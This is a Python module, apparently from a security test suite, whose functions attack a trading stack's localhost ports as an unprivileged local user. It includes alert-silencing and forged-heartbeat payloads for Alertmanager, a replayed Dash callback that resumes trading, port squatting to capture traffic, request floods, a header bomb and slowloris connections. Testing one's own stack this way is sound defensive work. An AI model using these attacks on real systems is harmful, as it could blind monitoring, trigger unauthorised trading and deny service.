"""What another user of the same machine can do to a stack: reach its ports, and nothing else. No file of ours helps.

Each attack is a function that runs in a process of that user and returns what it saw.
"""

from __future__ import annotations

import json
import multiprocessing
import os
import pwd
import socket
import time
from collections import Counter
from collections.abc import Iterator, Mapping
from concurrent.futures import ProcessPoolExecutor
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import httpx2

__all__ = [
    "bind",
    "bomb_headers",
    "flood",
    "forge_heartbeat",
    "half_open",
    "intruders",
    "list_folder",
    "press_resume",
    "silence_everything",
]

USER = "nobody"
Ports = Mapping[str, int]


@contextmanager
def intruders(number: int) -> Iterator[ProcessPoolExecutor]:
    """So many processes of another user, who is nobody's friend; only root can become one."""
    with ProcessPoolExecutor(number, multiprocessing.get_context("fork"), initializer=_become_another_user) as pool:
        yield pool


def _become_another_user() -> None:
    user = pwd.getpwnam(USER)
    os.setgroups([])
    os.setgid(user.pw_gid)
    os.setuid(user.pw_uid)


def list_folder(folder: Path) -> str:
    """Look into the data."""
    try:
        return f"{len(list(folder.iterdir()))} files"
    except OSError as error:
        return type(error).__name__


def forge_heartbeat(ports: Ports) -> dict[str, int]:
    """Say that Prometheus lives, to whoever might pass it on."""
    labels = {"alertname": "Watchdog", "severity": "none", "subject": "monitoring", "service": "prometheus"}
    alert = {"labels": labels, "annotations": {"evaluated_at": str(time.time())}}
    webhook = {"version": "4", "status": "firing", "alerts": [{"status": "firing", **alert}]}
    guesses = {"": {}, " with a guess": {"Authorization": "Bearer heartbeat"}}
    seen = {}
    for words, headers in guesses.items():
        seen[f"Alertmanager{words}"] = _post(ports["alertmanager"], "/api/v2/alerts", [alert], headers)
        seen[f"API{words}"] = _post(ports["api"], "/internal/heartbeat", webhook, headers)
        seen[f"inbox{words}"] = _post(ports["inbox"], "/webhook", webhook, headers)
    return seen


def silence_everything(ports: Ports) -> int:
    """Mute every page for a year."""
    matcher = {"name": "alertname", "value": "Watchdog", "isRegex": False, "isEqual": False}
    times = {"startsAt": "2026-01-01T00:00:00Z", "endsAt": "2030-01-01T00:00:00Z"}
    silence = {"matchers": [matcher], "createdBy": "mallory", "comment": "deploy window: nothing to see", **times}
    return _post(ports["alertmanager"], "/api/v2/silences", silence, {})


def press_resume(ports: Ports) -> list[str]:
    """Press the button that resumes trading, as the console's own page would."""
    port = ports["web"]
    address = f"http://127.0.0.1:{port}"
    seen = []
    for origin in (address, f"http://localhost:{port}", "http://localhost:9999"):
        answer = httpx2.post(
            f"{address}/_dash-update-component", json=_resume(address), headers={"Origin": origin}, trust_env=False
        )
        seen.append(f"{answer.status_code}: {_first_words(answer.text)}")
    return seen


def _resume(address: str) -> dict[str, Any]:
    callbacks = httpx2.get(f"{address}/_dash-dependencies", trust_env=False).json()
    callback = next(one for one in callbacks if any(i["id"] == "change-confirm" for i in one["inputs"]))
    names = [output.rsplit(".", 1) for output in callback["output"].strip(".").split("...")]
    outputs = [{"id": identifier, "property": name} for identifier, name in names]
    values = {"change-confirm": 1, "change": "resume", "change-reason": "all is well"}
    given = {
        kind: [{"id": one["id"], "property": one["property"], "value": values[one["id"]]} for one in callback[kind]]
        for kind in ("inputs", "state")
    }
    pressed = {"changedPropIds": ["change-confirm.n_clicks"], "output": callback["output"], "outputs": outputs}
    return {**given, **pressed}


def _first_words(text: str) -> str:
    """Of an answer: the sentence that it shows, where there is one."""
    start = text.find("Log in")
    return text[start : start + 60] if start >= 0 else text[:200]


def bind(port: int, seconds: float) -> tuple[str, list[bytes]]:
    """Take a port whose server is down, on every address, and keep what is sent there for a while."""
    errors, listeners = [], []
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):  # noqa: S104
        listener = socket.socket(family)
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            listener.setsockopt(socket.SOL_SOCKET, option, 1)
        if family is socket.AF_INET6:
            listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        try:
            listener.bind((address, port))
            listener.listen()
            listeners.append(listener)
        except OSError as error:
            listener.close()
            errors.append(f"{address}: {error.strerror}")
    if not listeners:
        return "; ".join(errors), []
    return "; ".join((*errors, f"bound {len(listeners)}")), _overhear(listeners, seconds)


def _overhear(listeners: list[socket.socket], seconds: float) -> list[bytes]:
    heard = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for listener in listeners:
            listener.settimeout(0.1)
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            with closing(connection):
                connection.settimeout(2)
                try:
                    heard.append(connection.recv(65_536))
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    heard.append(b"")
    for listener in listeners:
        listener.close()
    return heard


def flood(ports: Ports, requests: int) -> dict[int, int]:
    """Ask without a key as fast as it goes: answers by status."""
    statuses: Counter[int] = Counter()
    with httpx2.Client(base_url=f"http://127.0.0.1:{ports['api']}", timeout=30, trust_env=False) as client:
        for number in range(requests):
            wrong = {"Authorization": f"Bearer iq_{number:032x}"} if number % 2 else {}
            statuses[client.get("/api/trading/status", headers=wrong).status_code] += 1
    return dict(statuses)


def bomb_headers(ports: Ports, servers: tuple[str, ...], size: int = 100 * 1024 * 1024) -> dict[str, str]:
    """One header without an end, at each server: how much of it went out, and what came back."""
    return {server: _bomb(ports[server], size) for server in servers}


def _bomb(port: int, size: int) -> str:
    sent, block = 0, b"a" * 65_536
    with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
        try:
            connection.sendall(b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Bomb: ")
            while sent < size:
                connection.sendall(block)
                sent += len(block)
        except OSError as error:
            return f"{type(error).__name__} after {sent // 1024} KiB"
    return f"took {sent // 1024} KiB"


def half_open(ports: Ports, number: int, seconds: float) -> str:
    """Begin so many requests, end none of them, and see how many still stand after a while."""
    connections = []
    for _ in range(number):
        connection = socket.create_connection(("127.0.0.1", ports["api"]), timeout=30)
        connection.sendall(b"GET /api/trading/status HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        connections.append(connection)
    time.sleep(seconds)
    standing = sum(map(_stands, connections))
    for connection in connections:
        connection.close()
    return f"{standing} of {number} still stand after {seconds:g} s"


def _stands(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        return connection.recv(65_536) != b"" and _stands(connection)
    except BlockingIOError:
        return True
    except OSError:
        return False


def _post(port: int, path: str, document: object, headers: Mapping[str, str]) -> int:
    body = json.dumps(document)
    kind = {"Content-Type": "application/json"}
    answer = httpx2.post(f"http://127.0.0.1:{port}{path}", content=body, headers={**kind, **headers}, trust_env=False)
    return answer.status_code
